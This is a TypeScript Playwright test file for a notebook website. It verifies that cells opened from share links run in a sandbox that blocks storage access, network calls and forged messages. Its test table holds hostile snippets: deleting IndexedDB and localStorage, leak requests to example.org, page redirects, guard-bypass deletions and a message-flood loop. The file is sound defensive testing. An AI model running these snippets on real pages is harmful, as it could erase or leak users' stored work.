/**
 * Hostile cells, each arriving by a share link (so it is a stranger's code the reader runs by
 * pressing Run): they try to read and delete stored work, reach the network, move or open pages
 * and forge the kernel's messages. Each is told, in its output, that the sandbox blocks it; the
 * reader's saved edit and trained model are still there afterwards, and no request got out.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { BrowserContext, Page } from "playwright-core";
import { openPage, patientContext, readStored, sharedBrowser, storedKeys, writeStored } from "./browser.ts";
import { encodeShare } from "../../src/kernel/share.ts";

const baseUrl = inject("baseUrl");
const CHAPTER = new URL("en/chapters/00-intro/", baseUrl).href;
const TARGET = "intro-years";
const shared = sharedBrowser();

const cell = (page: Page, id = TARGET) => page.locator(`[data-cell="${id}"]`);
const output = (page: Page, id = TARGET) => cell(page, id).locator("[data-cell-output]");

const STORAGE = "Cells run in a sandbox: stored work";
const NETWORK = "Cells run in a sandbox without network access";
const PAGE = "Cells run in a sandbox: the page";
const MESSAGES = "Cells run in a sandbox: they cannot post messages";

const forged = `{ reqId: 1, type: "reply", ok: true, value: "forged" }`;
const hostile: { name: string; code: string; says: string | RegExp; state?: string }[] = [
  { name: "reads IndexedDB", code: `indexedDB.open("attention-live");`, says: STORAGE },
  { name: "deletes IndexedDB", code: `indexedDB.deleteDatabase("attention-live");`, says: STORAGE },
  { name: "reads localStorage", code: `localStorage.getItem("attention-live/theme");`, says: STORAGE },
  { name: "clears localStorage", code: `localStorage.clear();`, says: STORAGE },
  { name: "fetches another origin", code: `await fetch("https://example.org/leak?x=1");`, says: NETWORK },
  { name: "fetches our own origin", code: `await fetch("${baseUrl}leak-own");`, says: NETWORK },
  { name: "moves the top page", code: `top.location = "https://example.org/leak-top";`, says: PAGE },
  { name: "opens a window", code: `window.open("https://example.org/leak-open");`, says: PAGE },
  { name: "posts a forged kernel message", code: `postMessage(${forged});`, says: MESSAGES },
  // Past the friendly messages: what the browser itself blocks.
  {
    name: "deletes IndexedDB past the guard",
    code: `delete (self as any).indexedDB;\nindexedDB.deleteDatabase("attention-live");`,
    says: /SecurityError|insecure|denied/,
  },
  {
    name: "fetches our origin past the guard",
    code: `delete (self as any).fetch;\nawait fetch("${baseUrl}leak-raw");`,
    says: /TypeError|fetch|Load failed/i,
  },
  {
    name: "posts to the frame past the guard",
    code: `delete (self as any).postMessage;\nfor (let i = 0; i < 1000; i++) try { (self as any).postMessage(${forged}); } catch {}\n"posted";`,
    says: "posted",
    state: "done",
  },
  {
    name: "spams messages in an endless loop",
    code: `while (true) { try { postMessage(${forged}); } catch {} }`,
    says: "Stopped after",
    state: "stopped",
  },
];

let context: BrowserContext;
let requests: string[] = [];
/** The site's IndexedDB records and localStorage as they were before any hostile cell ran. */
let before: { records: Record<string, unknown>; local: Record<string, string> };

const localItems = (page: Page) => page.evaluate(() => ({ ...localStorage }) as Record<string, string>);

beforeAll(async () => {
  context = await patientContext(shared.browser);
  context.on("request", (r) => requests.push(r.url()));
  const { page } = await openPage(context, CHAPTER);
  // A saved edit (through the editor, as a reader makes one: a comment, so the cell still works)
  // and a trained model.
  await cell(page, "intro-dates").locator(".cell-code").click();
  await cell(page, "intro-dates").locator(".cm-content").click();
  await page.keyboard.press("ControlOrMeta+Home");
  await page.keyboard.insertText("// my own edit\n");
  await page.waitForSelector('[data-cell="intro-dates"][data-edited="true"]');
  const [meta, bin] = await Promise.all([
    fetch(new URL("models/luong.json", baseUrl)).then((r) => r.json()),
    fetch(new URL("models/luong.bin", baseUrl)).then((r) => r.arrayBuffer()),
  ]);
  await writeStored(page, "model:mine", { name: "mine", meta, weights: new Uint8Array(bin), savedAt: 1 });
  await page.evaluate(() => localStorage.setItem("attention-live/test-marker", "kept"));
  // The edit is saved a moment after typing: wait for its record.
  while (!(await storedKeys(page)).some((k) => k.includes("intro-dates"))) await page.waitForTimeout(200);
  const records: Record<string, unknown> = {};
  for (const key of await storedKeys(page)) records[key] = await readStored(page, key);
  before = { records, local: await localItems(page) };
  await page.close();
}, 120_000);

afterAll(async () => {
  await context?.close();
});

describe("a hostile cell from a share link", { timeout: 120_000 }, () => {
  it.each(hostile)(
    "$name: blocked, with a clear message, and stored work survives",
    async ({ code, says, state }) => {
      requests = [];
      const hash = await encodeShare({ cell: TARGET, code });
      const { page, problems } = await openPage(context, CHAPTER + hash!);
      await cell(page).locator('[data-store-notice="shared"]').waitFor();
      expect(await cell(page).getAttribute("data-state")).toBe("idle"); // opened, not run
      expect(await page.locator("iframe").count()).toBe(0);

      await cell(page).locator('[data-action="run"]').click();
      await page.waitForSelector(`[data-cell="${TARGET}"][data-state="${state ?? "error"}"]`, {
        timeout: 60_000,
      });
      const text = await output(page).innerText();
      if (typeof says === "string") expect(text).toContain(says);
      else expect(text).toMatch(says);
      expect(text).not.toContain("forged");

      // The page is unharmed: still here, and the kernel answers the next cell.
      expect(page.url()).toBe(CHAPTER + hash);
      expect(context.pages()).toHaveLength(1);
      await cell(page, "intro-dates").locator('[data-action="run"]').click();
      await page.waitForSelector('[data-cell="intro-dates"][data-state="done"]');
      expect(await output(page, "intro-dates").innerText()).toContain("→");

      // Every record that was stored is still there, unchanged, and so is localStorage.
      for (const [key, value] of Object.entries(before.records))
        expect(await readStored(page, key)).toEqual(value);
      const local = await localItems(page);
      for (const [key, value] of Object.entries(before.local)) expect(local[key]).toBe(value);
      expect(requests.filter((u) => u.includes("leak"))).toEqual([]);
      expect(
        problems.consoleErrors.filter((e) => !/Content Security Policy|Refused to connect/.test(e)),
      ).toEqual([]);
      await page.close();
    },
  );
});
